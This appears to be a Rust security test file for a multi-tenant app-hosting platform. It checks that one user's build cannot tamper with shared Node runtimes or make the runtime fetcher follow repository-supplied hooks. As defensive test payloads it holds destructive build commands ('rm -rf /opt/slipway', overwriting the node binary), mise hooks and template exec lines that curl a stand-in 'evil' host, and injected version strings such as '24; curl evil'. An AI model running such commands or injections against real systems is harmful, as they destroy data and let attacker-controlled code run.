//! Runtimes are shared by all: nothing of bob's may get at who fetches them, or change what alice runs.

use serde_json::json;

use super::alice_and_bob;
use crate::runtimes::node_app;
use crate::support::{Mirror, NODE, Slipway};

#[tokio::test]
async fn a_build_cannot_change_a_runtime_that_another_app_uses() {
    let mirror = Mirror::start();
    let server = Slipway::start_with(mirror.options()).await;
    let (alice, bob) = alice_and_bob(&server).await;
    let (hers, repo) = (alice.create("hers").await, node_app("24"));
    hers.push(&repo).await.succeeded();

    let (his, attack) = (bob.create("his").await, node_app("24"));
    let program = format!("/opt/slipway/runtimes/node/{NODE}/bin/node");
    let script = format!(
        "id -u; touch {program} /opt/slipway/x /opt/slipway/runtimes/node/x; echo evil > {program}; rm -rf /opt/slipway; \
         mv /opt/slipway /tmp; ls /opt/slipway/runtimes/node; true"
    );
    attack.write(
        "package.json",
        &json!({ "engines": { "node": "24" }, "scripts": { "build": script, "start": "node server.js" } }).to_string(),
    );
    attack.commit("Write to what everybody uses");
    his.push(&attack).await.succeeded().says(&["Permission denied", "2000"]);
    let run =
        his.post("/run", &json!({ "command": format!("echo evil > {program} || echo cannot; node --version") })).await;
    assert!(run.text.contains("cannot") && run.text.contains(NODE), "{run:?}");

    repo.write("more.txt", "more");
    repo.commit("Build once more");
    hers.push(&repo).await.succeeded();
    assert_eq!(hers.ask("/").await.expect(200).text, format!("v{NODE} {program}"));
    assert!(his.ask("/").await.expect(200).text.starts_with(&format!("v{NODE} ")));
}

#[tokio::test]
async fn nothing_in_a_tree_acts_on_who_fetches_its_runtime() {
    let mirror = Mirror::start();
    let server = Slipway::start_with(mirror.options()).await;
    let (_alice, bob) = alice_and_bob(&server).await;
    let (his, repo) = (bob.create("his").await, node_app("*"));
    let evil = mirror.url().replace("/dist", "/evil");
    his.set(&json!({ "MISE_NODE_MIRROR_URL": evil, "MISE_URL_REPLACEMENTS": "{}" })).await;
    let hooks = format!(
        "[tools]\nnode = \"24\"\n[env]\nMISE_NODE_MIRROR_URL = \"{evil}\"\n_.source = \"./evil.sh\"\n\
         A = \"{{{{ exec(command='curl {evil}/template') }}}}\"\n[settings]\nnode.mirror_url = \"{evil}\"\n\
         [hooks]\npreinstall = \"curl {evil}/hook\"\npostinstall = \"curl {evil}/hook\"\n"
    );
    repo.write("mise.toml", &hooks);
    repo.write("evil.sh", &format!("curl {evil}/source\n"));
    repo.write(".mise.toml", &hooks);
    repo.commit("Act on whoever reads this");
    his.push(&repo).await.succeeded().says(&["Finding Node.js '24', which mise.toml ([tools] node) asks for"]);
    assert!(his.ask("/").await.expect(200).text.starts_with(&format!("v{NODE} ")));

    for version in [
        format!("{{{{ exec(command='curl {evil}/version') }}}}"),
        "path:/etc".to_owned(),
        "ref:main".to_owned(),
        "24; curl evil".to_owned(),
        "--help".to_owned(),
        "../../../etc".to_owned(),
    ] {
        repo.write("mise.toml", &format!("[tools]\nnode = \"{version}\"\n"));
        repo.commit("Ask for something else than a version");
        his.push(&repo).await.failed().says(&["which is no version: write for example 24.x"]);
    }
    let asked = mirror.asked();
    assert!(asked.iter().all(|path| path.starts_with("/dist/")), "{asked:?}");
}
